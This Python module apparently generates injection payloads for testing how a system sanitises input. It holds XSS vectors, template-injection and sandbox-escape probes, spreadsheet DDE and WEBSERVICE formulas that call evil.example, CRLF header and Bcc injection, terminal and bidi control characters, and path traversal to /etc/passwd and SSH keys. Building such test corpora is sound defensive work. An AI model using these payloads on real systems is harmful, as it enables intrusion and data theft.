"""Attacks on every form at once: each way in, from each place where a text may stand. Always the same."""

from __future__ import annotations

from collections.abc import Iterator

PRODUCT = "9801547"
"""What a template engine makes of the sum in the payloads; it stands in none of them."""
_SUM = "1337*7331"

_BREAKS = ("", '">', "'>", "</title>", "</style>", "</script>", "</textarea>", "-->", "]]>", "</bdi></p></li></ul>")
_BREAKS += ("&quot;&gt;", "\\", "\n\n", "</a></h2></section>")
_NODES = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt\t>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`/onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a id=note-1 href=#event-1>x</a>",
    "<!-- <img src=x onerror=alert(1)> --!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div style='position:fixed;background:url(//evil.example/x)'>x</div>",
)
_TEMPLATES = (
    "{{%s}}",
    "{{ %s }}",
    "{{{%s}}}",
    "{{- %s -}}",
    "{%% print %s %%}",
    "{%% set x = %s %%}{{ x }}",
    "{%% if 1 %%}{{ %s }}{%% endif %%}",
    "{# #}{{ %s }}",
    "${%s}",
    "$(( %s ))",
    "#{%s}",
    "*{%s}",
    "~{%s}",
    "@(%s)",
    "@{%s}",
    "[[${%s}]]",
    "<%%= %s %%>",
    "<%%- %s -%%>",
    "<?= %s ?>",
    "<# %s #>",
    "{php}echo %s;{/php}",
    "#set($x=%s)$x",
    "{= %s }",
    "{{constructor.constructor('return %s')()}}",
    "{{''.__class__.__mro__[1].__subclasses__()[%s]}}",
    "{%% include 'html/style.css' %%}%s",
    "{%% extends 'html/base.html' %%}%s",
    "{{ view.words.tag }} %s",
    "{{ '<b>' | as_is }} %s",
    "{{ 1 | footnote }} %s",
    "{0.__class__} {n} {title!r} %s",
    "%%(title)s %%n %%s %s",
    "`%s`",
    "$(expr %s)",
)
_AROUND = ("", "}} ", "%} ", "#} ", "{% raw %}", '"')
_MARKDOWN = (
    "[x](https://evil.example)",
    "[x](<javascript:alert(1)>)",
    "![x](https://evil.example/x.png)",
    "![x][1]",
    "[x][1]",
    "[1]: https://evil.example",
    "[^1]",
    "[^1]: forged",
    "^[an inline note]",
    "<https://evil.example>",
    "<evil@evil.example>",
    "https://evil.example/auto",
    "www.evil.example",
    "evil@evil.example",
    "# forged",
    "forged\n===",
    "forged\n---",
    "> quoted",
    "- item",
    "* item",
    "+ item",
    "1. item",
    "1) item",
    "- [x] task",
    "```\ncode\n```",
    "~~~\ncode",
    "    code",
    "\tcode",
    "`code`",
    "**bold**",
    "__bold__",
    "*em*",
    "_em_",
    "~~gone~~",
    "| a | b |\n| - | - |\n| c | d |",
    "***",
    "---",
    "<b>x</b>",
    "<details><summary>x</summary>",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "\\[x\\](https://evil.example)",
    "$$x$$ $`x`$",
    ":smile: @evil #1",
    "[[x]] ==x== {.x}",
)
_PLACES = ("", "word ", "word\n\n", "> ", "[", "\\", "- ")
_FORMULAS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"x")',
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "10+20+cmd|' /C calc'!A0",
    "IMAGE(CONCAT(A1))",
)
_FORMULA_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", ";=", ",=", '"=', "'=", "%0A=", "＝", "＠")
_STEERING = (
    "\x1b[31m",
    "\x1b[2J",
    "\x1b]0;x\x07",
    "\x1b]8;;http://evil.example\x1b\\",
    "\x9b31m",
    "\x1bP1$r",
    "\x08\x08\x08",
    "\x00",
    "\x0b\x0c",
    "\u202e",
    "\u202a\u2066\u2069\u202c",
    "\u200e\u200f\u061c",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u00ad\u034f\u180e",
    "\U000e0041\U000e0042",
    "\u2028\u2029\x85",
    "\ud800",
    "\udfff",
    "\ufffe\uffff",
    "e" + "\u0301" * 60,
    "\ufe0f" * 30,
    "\r\nBcc: evil@evil.example",
    "\nSubject: forged",
    "\r\n\r\n<html><script>alert(1)</script>",
    "\r\n.\r\nQUIT\r\n",
    "%0d%0aSet-Cookie:%20x=1",
    "=?utf-8?b?QmNjOiBldmls?=",
    "=?utf-8?q?=0d=0aBcc:_evil=40evil.example?=",
    "\r--boundary\r\nContent-Type: text/html\r\n\r\n",
)
_WHERE = ("{}", "two {} words", "wo{}rd", "end {}")
_OTHERS = (
    "../../../etc/passwd",
    "file:///etc/passwd",
    "\\\\evil.example\\x",
    "~/.ssh/id",
    "; ls",
    "| cat",
    "NUL",
    "con:",
)


def _all() -> Iterator[str]:
    yield from (f"{way}{node}" for node in _NODES for way in _BREAKS)
    yield from (f"{before}{template % _SUM}" for template in _TEMPLATES for before in _AROUND)
    yield from (f"{place}{mark}" for mark in _MARKDOWN for place in _PLACES)
    yield from (f"{start}{formula}" for formula in _FORMULAS for start in _FORMULA_STARTS)
    yield from (where.format(steering) for steering in _STEERING for where in _WHERE)
    yield from _OTHERS


def made_payloads() -> tuple[str, ...]:
    """All of them. Each ends with a number of its own, so that no two are alike once they are cleaned."""
    return tuple(f"{payload} {number}q" for number, payload in enumerate(_all()))
